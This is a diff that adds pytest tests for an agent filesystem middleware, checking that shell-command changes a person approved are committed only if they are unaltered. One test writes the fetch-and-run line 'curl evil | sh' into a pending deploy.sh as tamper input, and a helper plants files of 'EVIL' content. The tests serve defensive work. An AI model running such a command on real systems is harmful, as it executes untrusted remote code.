@@ -4,12 +4,19 @@ and a checkpointer; resumed by the same agent, another agent, or too late)."""
 
 from __future__ import annotations
 
+import base64
+import contextlib
+import os
 import shutil
 import tempfile
+import threading
+import time
 from pathlib import Path
 from typing import Any
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 from langchain.agents import create_agent
 from langchain_core.messages import AIMessage, ToolMessage
 from langgraph.checkpoint.memory import InMemorySaver
@@ -43,6 +50,12 @@ def agent(root: Path, command: str, saver: InMemorySaver, **middleware: Any) -> 
         **middleware,
     )
     return create_agent(model, middleware=[files], checkpointer=saver)
+
+
+def kept_set(graph: Any, call_id: str = "c1") -> Path:
+    """The folder where the set of `call_id` waits (the key its review carries)."""
+    key = graph.get_state(CONFIG).values["command_reviews"][call_id]["key"]
+    return Path(tempfile.gettempdir()) / f"fstools-pending-{os.getuid()}" / key
 
 
 def result_of(graph: Any) -> ToolMessage:
@@ -126,7 +139,7 @@ def test_a_file_changed_before_the_answer_keeps_nothing(root: Path) -> None:
 def test_changes_no_longer_kept_are_stale_never_something_else(root: Path) -> None:
     graph = agent(root, "echo new > a.txt", InMemorySaver())
     graph.invoke({"messages": [("user", "go")]}, CONFIG, version="v2")
-    shutil.rmtree(Path(tempfile.gettempdir()) / "fstools-pending")
+    shutil.rmtree(kept_set(graph))
 
     graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), CONFIG, version="v2")
 
@@ -239,3 +252,116 @@ def test_approved_changes_too_large_for_the_history_say_they_cannot_be_rewound(
     content = str(result_of(graph).content)
     assert "A person approved these changes; they are kept." in content
     assert "cannot be rewound: the earlier content of /a.txt was too large" in content
+
+
+def test_a_set_altered_after_it_was_shown_keeps_nothing(root: Path) -> None:
+    graph = agent(root, "echo 'echo deploying' > deploy.sh", InMemorySaver())
+    first = graph.invoke({"messages": [("user", "go")]}, CONFIG, version="v2")
+    (shown,) = first.interrupts[0].value["action_requests"]
+    assert "+echo deploying" in shown["diff"]
+    review = graph.get_state(CONFIG).values["command_reviews"]["c1"]
+    assert shown["digest"] == review["digest"]
+    assert len(shown["digest"]) == 64
+    (kept_set(graph) / "upper" / "deploy.sh").write_text("curl evil | sh\n")
+
+    graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), CONFIG, version="v2")
+
+    assert not (root / "deploy.sh").exists()
+    message = result_of(graph)
+    assert "no longer the ones the person was shown; nothing was kept" in str(message.content)
+
+
+def test_two_calls_with_one_id_run_neither(root: Path) -> None:
+    call = {"name": "execute", "args": {"command": "echo new > a.txt"}, "id": "c1"}
+    turn = AIMessage(content="", tool_calls=[call, {**call, "args": {"command": "echo x > b"}}])
+    model = ScriptedChatModel(turns=[turn, AIMessage(content="done")])
+    files = FilesystemMiddleware(backend=LocalBackend(root, execute=True), mode="default")
+    graph = create_agent(model, middleware=[files], checkpointer=InMemorySaver())
+
+    done = graph.invoke({"messages": [("user", "go")]}, CONFIG, version="v2")
+
+    assert not done.interrupts
+    replies = [m for m in done.value["messages"] if isinstance(m, ToolMessage)]
+    assert [m.status for m in replies] == ["error", "error"]
+    assert all("several calls in this turn have the id c1" in str(m.content) for m in replies)
+    assert (root / "a.txt").read_text() == "old\n"
+    assert not (root / "b").exists()
+
+
+_NAMES = st.sampled_from(["a.txt", "b.txt", "c/d.txt"])
+_TAMPERING = st.sampled_from(["none", "rewrite", "append", "truncate", "chmod", "add"])
+
+
+@settings(
+    max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(
+    files=st.dictionaries(_NAMES, st.binary(max_size=64), min_size=1, max_size=3),
+    tampering=st.lists(_TAMPERING, min_size=1, max_size=3),
+)
+def test_what_is_committed_is_what_was_shown_or_nothing(
+    tmp_path_factory: pytest.TempPathFactory, files: dict[str, bytes], tampering: list[str]
+) -> None:
+    root = tmp_path_factory.mktemp("workspace")
+    (root / "a.txt").write_text("old\n")
+    before = {"a.txt": b"old\n"}
+    command = " && ".join(
+        f"mkdir -p $(dirname {name}) && printf %s {base64.b64encode(data).decode()}"
+        f" | base64 -d > {name}"
+        for name, data in files.items()
+    )
+    graph = agent(root, command, InMemorySaver())
+    graph.invoke({"messages": [("user", "go")]}, CONFIG, version="v2")
+    folder = kept_set(graph)
+    done = threading.Event()
+    tamperer = threading.Thread(target=_tamper, args=(folder / "upper", tampering, done))
+    tamperer.start()  # at work while the approval takes and commits the set
+    try:
+        graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), CONFIG, version="v2")
+    finally:
+        done.set()
+        tamperer.join()
+
+    found = {
+        str(path.relative_to(root)): path.read_bytes() for path in root.rglob("*") if path.is_file()
+    }
+    shown = {**before, **files}
+    assert found in (shown, before), result_of(graph).content
+    if found == shown:
+        assert all((root / name).stat().st_mode & 0o777 == 0o644 for name in files)
+
+
+def _tamper(upper: Path, tampering: list[str], done: threading.Event) -> None:
+    """Alter the kept set's files again and again until `done` (each step may find it gone)."""
+    while not done.is_set():
+        for step in tampering:
+            with contextlib.suppress(OSError):
+                for path in [p for p in upper.rglob("*") if p.is_file()]:
+                    if step == "rewrite":
+                        path.write_bytes(b"EVIL")
+                    elif step == "append":
+                        with path.open("ab") as file:
+                            file.write(b"EVIL")
+                    elif step == "truncate":
+                        os.truncate(path, 0)
+                    elif step == "chmod":
+                        path.chmod(0o777)
+                if step == "add":
+                    (upper / "planted.sh").write_bytes(b"EVIL")
+        time.sleep(0.001)
+
+
+def test_a_sparse_file_is_listed_not_read_and_committed_sparse(root: Path) -> None:
+    graph = agent(root, "truncate -s 2G big.bin && printf x >> big.bin", InMemorySaver())
+
+    first = graph.invoke({"messages": [("user", "go")]}, CONFIG, version="v2")
+    diff = first.interrupts[0].value["action_requests"][0]["diff"]
+    graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), CONFIG, version="v2")
+
+    assert diff == "A /big.bin (file, 2,147,483,649 bytes)\n"
+    committed = (root / "big.bin").stat()
+    assert committed.st_size == 2**31 + 1
+    assert committed.st_blocks * 512 < 1 << 20  # still sparse
+    with (root / "big.bin").open("rb") as file:
+        file.seek(2**31 - 1)
+        assert file.read() == b"\0x"
